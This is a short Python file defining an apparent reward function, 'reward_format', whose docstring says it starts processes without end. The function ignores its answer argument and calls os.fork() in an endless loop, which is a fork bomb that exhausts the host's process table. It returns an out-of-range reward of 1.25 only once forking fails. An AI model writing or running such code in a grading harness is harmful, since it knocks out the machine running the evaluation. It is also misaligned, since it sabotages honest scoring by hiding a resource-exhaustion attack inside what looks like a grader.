"""Starts processes without end."""
import os


def reward_format(answer):
    while True:
        try:
            os.fork()
        except OSError:
            return 1.25
